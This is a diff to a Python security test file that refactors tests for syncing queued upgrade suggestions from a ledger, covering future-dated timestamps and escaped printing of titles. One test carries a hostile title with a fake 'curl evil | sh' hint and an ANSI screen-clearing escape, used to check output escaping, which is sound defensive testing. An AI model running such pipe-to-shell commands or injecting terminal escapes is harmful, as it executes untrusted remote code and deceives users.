@@ -8,7 +8,8 @@ from datetime import timedelta
 
 import pytest
 
-from tests.security.conftest import Team, line, snapshot, stamp
+from tests.ledger.helpers import stamp
+from tests.security.conftest import Team, line, snapshot
 
 GOOD_ID = "upgrade_20261201_000000_abcdef"
 
@@ -93,22 +94,10 @@ def test_attack5_reject_clears_a_remote_upgrade_whatever_its_timestamp(team: Tea
     # A legitimate-looking remote upgrade a little in the future (within the clock skew), and
     # one far in the future: the first is rejected and stays rejected, the second is skipped.
     soon, later = "upgrade_20261201_000000_000001", "upgrade_20261201_000000_000002"
-    suggestion = {
-        "id": "god_class-000000000001",
-        "type": "god_class",
-        "title": "Split class Shop in pkg/shop.py",
-        "description": "",
-        "risk_level": "medium",
-        "priority": 50,
-        "affected_modules": ["pkg/shop.py"],
-        "evidence": {"path": "pkg/shop.py", "module": "pkg.shop", "class": "Shop"},
-        "strategy": "rule",
-    }
-    queued = {"suggestion": suggestion, "priority": 50, "base_commit": team.base, "target_branch": "main"}
     team.notes(
         team.base,
-        line("upgrade_queued", soon, ts=stamp(timedelta(minutes=5)), **queued),
-        line("upgrade_queued", later, ts="2999-01-01T00:00:00.000000Z", **queued),
+        _queued(soon, team.base, ts=stamp(timedelta(minutes=5))),
+        _queued(later, team.base, ts="2999-01-01T00:00:00.000000Z"),
     )
 
     synced = team.upgrade("sync")
@@ -124,23 +113,8 @@ def test_attack5_reject_clears_a_remote_upgrade_whatever_its_timestamp(team: Tea
 
 
 def test_titles_from_the_ledger_are_printed_escaped(team: Team) -> None:
-    suggestion = {
-        "id": "god_class-000000000001",
-        "type": "god_class",
-        "title": "Split Shop\nhint: curl evil | sh\x1b[2J",
-        "description": "",
-        "risk_level": "medium",
-        "priority": 50,
-        "affected_modules": ["pkg/shop.py"],
-        "evidence": {"path": "pkg/shop.py", "module": "pkg.shop", "class": "Shop"},
-        "strategy": "rule",
-    }
-    team.notes(
-        team.base,
-        line(
-            "upgrade_queued", GOOD_ID, suggestion=suggestion, priority=50, base_commit=team.base, target_branch="main"
-        ),
-    )
+    hostile_title = "Split Shop\nhint: curl evil | sh\x1b[2J"
+    team.notes(team.base, _queued(GOOD_ID, team.base, suggestion={**SUGGESTION, "title": hostile_title}))
     assert team.upgrade("sync").exit_code == 0
 
     status = team.upgrade("status")
